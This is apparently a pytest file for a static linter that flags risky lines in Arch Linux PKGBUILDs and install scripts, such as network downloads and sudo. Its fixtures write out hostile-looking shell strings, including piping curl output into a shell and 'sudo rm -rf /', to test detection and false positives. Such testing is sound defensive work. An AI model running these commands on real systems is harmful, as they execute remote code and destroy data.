"""The static check of PKGBUILDs and install scripts (omg/arch/lint.py): pure, no build.

Good files (written as AUR PKGBUILDs are) give no finding; in the crafted bad ones
every line marked `# expect: RULE...` gives exactly those findings and no other line
gives one.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from omg.arch import lint

DATA = Path(__file__).parent / "data" / "lint"


def _check(path: Path) -> list[lint.Finding]:
    return lint.check(path.read_text(), path.name, install_script=path.suffix == ".install")


@pytest.mark.parametrize("path", sorted((DATA / "good").iterdir()), ids=lambda p: p.name)
def test_real_world_files_give_no_finding(path: Path) -> None:
    assert _check(path) == []


@pytest.mark.parametrize("path", sorted((DATA / "bad").iterdir()), ids=lambda p: p.name)
def test_each_risky_line_is_found_with_its_line_number(path: Path) -> None:
    expected = {(n, rule) for n, line in enumerate(path.read_text().splitlines(), 1)
                if (m := re.search(r"# expect: (.*)$", line)) for rule in m.group(1).split()}
    assert expected
    assert {(f.line, f.rule) for f in _check(path)} == expected


def test_severity_and_where_a_download_happens() -> None:
    text = "curl -o x https://e.example\nbuild() {\n  wget https://e.example/b\n}\n" \
           "post_install() {\n  curl https://e.example/c\n}\n"
    found = [(f.line, f.rule, f.severity) for f in lint.check(text)]
    assert found == [(1, "network", "high"), (3, "network", "medium"), (6, "network", "high")]
    assert "read" in lint.check(text)[0].message  # top level: runs on every read


@pytest.mark.parametrize("text", [
    'pkgdesc="pipe it: curl x | sh, then sudo"\n',          # prose in a string
    "# curl https://e.example | bash\n",                      # a comment
    "depends=(curl\n  wget\n  sudo)\n",                        # an unquoted array
    "package() {\n  cat > \"$pkgdir/x\" <<'E'\nsudo rm -rf /\nE\n}\n",  # a here-document
    "build() {\n  ./configure --prefix=/usr --sysconfdir=/etc\n}\n",
    "package() {\n  make DESTDIR=\"$pkgdir\" PREFIX=/usr install\n}\n",
    "package() {\n  ln -s /usr/lib/foo/foo \"$pkgdir/usr/bin/foo\"\n}\n",
    "build() {\n  sed -i 's|/usr/local|/usr|' Makefile\n  cmake -B build 2>/dev/null\n}\n",
    "build() {\n  chmod 0755 x; chmod 644 y; chmod -R a+rX z; install -Dm0644 a b\n}\n",
    "build() {\n  sha256sum x | sha512sum; curl-config --libs\n}\n",
])
def test_no_false_positive(text: str) -> None:
    assert lint.check(text) == []


def test_a_file_bash_cannot_parse_is_a_finding_with_its_line() -> None:
    (bad,) = lint.check("pkgname=x\nbuild() {\n  if true; then\n}\n")
    assert (bad.rule, bad.line, bad.severity) == ("syntax", 4, "medium")
    assert "unexpected token" in bad.message


def test_finding_json_shape() -> None:
    (f,) = lint.check("build() {\n  sudo true\n}\n")
    assert f.to_json() == {"file": "PKGBUILD", "line": 2, "rule": "privilege",
                           "severity": "high", "message": f.message, "text": "sudo true"}
